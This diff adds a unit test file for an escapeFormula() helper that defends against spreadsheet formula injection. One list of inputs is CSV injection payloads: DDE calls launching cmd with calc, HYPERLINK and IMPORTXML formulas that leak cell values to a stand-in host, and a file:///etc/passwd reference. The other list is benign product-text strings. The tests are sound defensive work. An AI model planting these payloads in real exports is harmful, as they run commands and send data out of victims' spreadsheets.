@@ -1,0 +1,76 @@
+import { describe, expect, it } from 'vitest';
+import { escapeFormula } from './escape-formula.js';
+
+describe('escapeFormula()', () => {
+  it.each([
+    '=1+1',
+    `=cmd|' /C calc'!A0`,
+    `+cmd|' /C calc'!A0`,
+    `-2+3+cmd|' /C calc'!A0`,
+    `@SUM(1+1)*cmd|' /C calc'!A0`,
+    '=HYPERLINK("http://x.example.com?leak="&A1,"Click")',
+    '+HYPERLINK("http://x.example.com")',
+    '-hyperlink ("http://x.example.com")',
+    '@WEBSERVICE("http://x.example.com")',
+    '+IMPORTXML(CONCAT("http://x.example.com/",A2),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    `+'file:///etc/passwd'#$passwd.A1`,
+    '+Sheet1!A1',
+    '-[book.xlsx]Sheet1!A1',
+    '@SUM(1,1)',
+    '+SUM(1)',
+    '-SUM (1)',
+    '+1+1',
+    '-1*2',
+    '-A1',
+    '@A1',
+    '+$B$2',
+    '+=1',
+    '\t=1+1',
+    '\r=1+1',
+    '\n+SUM(1)',
+    '\tplain',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\u200b=1',
+    '\ufeff=1',
+    '\uff1d1+1',
+    '\uff0bSUM(1)',
+    '\uff20SUM(1)',
+    '\uff0d1+2',
+    '-1+1|x!A1',
+  ])('escapes %j', (cell) => {
+    expect(escapeFormula(cell)).toBe(`'${cell}`);
+  });
+
+  it.each([
+    '',
+    '- 100% cotton',
+    '- soft (100% cotton)',
+    '-20\u00b0C',
+    '- red | blue',
+    '- 50% off! Now',
+    '- first\n- second',
+    '-Baumwolle/Leinen',
+    '-',
+    '--',
+    '-5',
+    '+5',
+    '-1.234,50',
+    '+1.5e3',
+    '-10%',
+    '+49 30 123',
+    '+/- 5 mm',
+    '+ size M',
+    '+A4 paper',
+    '@home',
+    '@brand.name',
+    "@mum's",
+    'a=b',
+    '5-6',
+    `'quoted`,
+    'https://cdn.example.com/a.jpg',
+  ])('leaves %j as it is', (cell) => {
+    expect(escapeFormula(cell)).toBe(cell);
+  });
+});
